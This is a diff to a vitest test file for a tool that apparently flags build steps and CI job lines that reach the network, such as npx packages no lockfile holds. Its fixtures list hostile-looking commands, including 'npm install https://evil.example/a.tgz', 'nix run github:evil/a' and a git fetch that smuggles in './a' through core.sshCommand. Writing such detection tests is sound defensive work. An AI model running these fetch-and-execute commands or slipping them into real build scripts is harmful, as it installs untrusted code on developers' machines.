@@ -1,11 +1,15 @@
 import { describe, expect, test } from "vitest";
-import { manifest, toldOf } from "./app.ts";
+import { manifest, toldOf, withSteps } from "./app.ts";
 
 const DEPENDENCIES = { devDependencies: { typescript: "5.0.0", "@tauri-apps/cli": "2.0.0" } };
 
 /** The app's manifest, with two packages that have programs, and with one more command of the build. */
 function built(command?: string): Record<string, string> {
   return { "package.json": JSON.stringify({ ...JSON.parse(manifest(command)), ...DEPENDENCIES }) };
+}
+
+function asking(packages: Record<string, string>, command?: string): Record<string, string> {
+  return { "package.json": JSON.stringify({ ...JSON.parse(manifest(command)), devDependencies: packages }) };
 }
 
 describe("a command that reaches out, however it is started:", () => {
@@ -34,6 +38,7 @@ describe("a command that reaches out, however it is started:", () => {
     "deno run -A npm:evil",
     "nix run github:evil/a",
     "rsync evil.example::a .",
+    "rsync -a dist/ server:/srv",
     "git submodule update --remote",
     "git -c core.sshCommand=./a fetch",
     "npm install https://evil.example/a.tgz",
@@ -91,4 +96,48 @@ test("a package that npx fetches is news once, and not again with other words", 
   const again = await toldOf(other, first);
   expect(again.verdict).toBe("pass");
   expect(again.told.join()).not.toContain("build/step-reaches");
+});
+
+describe("a program of npx that no lockfile holds:", () => {
+  const before = built();
+  test.each<[string, Record<string, string>, Record<string, string>]>([
+    ["its scope has another package", built("npx tauri-apps"), before],
+    ["its scope begins like it", built("npx taur"), before],
+    [
+      "a package of a scope has its name, and no program",
+      asking({ "@tauri-apps/plugin-fs": "2.0.0" }, "npx plugin-fs"),
+      asking({ "@tauri-apps/plugin-fs": "2.0.0" }),
+    ],
+    [
+      "a manifest elsewhere asks for it",
+      { ...built("npx evil"), "other/package.json": '{ "devDependencies": { "evil": "1.0.0" } }' },
+      before,
+    ],
+    ["a line of a job starts it", withSteps("      - run: npx evil\n"), before],
+  ])("%s", async (_, changes, base) => {
+    const { told, verdict } = await toldOf(changes, base);
+    expect(told).toEqual(expect.arrayContaining([expect.stringMatching(/^build\/step-reaches high/)]));
+    expect(verdict).toBe("fail");
+  });
+
+  test.each<[string, Record<string, string>, Record<string, string>]>([
+    [
+      "a scoped package with a program of a known name",
+      asking({ "@playwright/test": "1.0.0" }, "npx playwright test"),
+      asking({ "@playwright/test": "1.0.0" }),
+    ],
+    [
+      "a manifest of the folder in which it is started",
+      { "package.json": manifest("cd docs && npx vitepress build") },
+      { "docs/package.json": '{ "devDependencies": { "vitepress": "1.0.0" } }' },
+    ],
+    ["a job that starts what is asked for", withSteps("      - run: npx tsc --noEmit\n"), before],
+    [
+      "a job that always started it",
+      withSteps("      - run: npx evil --verbose\n"),
+      withSteps("      - run: npx evil\n"),
+    ],
+  ])("calm: %s", async (_, changes, base) => {
+    expect((await toldOf(changes, base)).verdict).toBe("pass");
+  });
 });
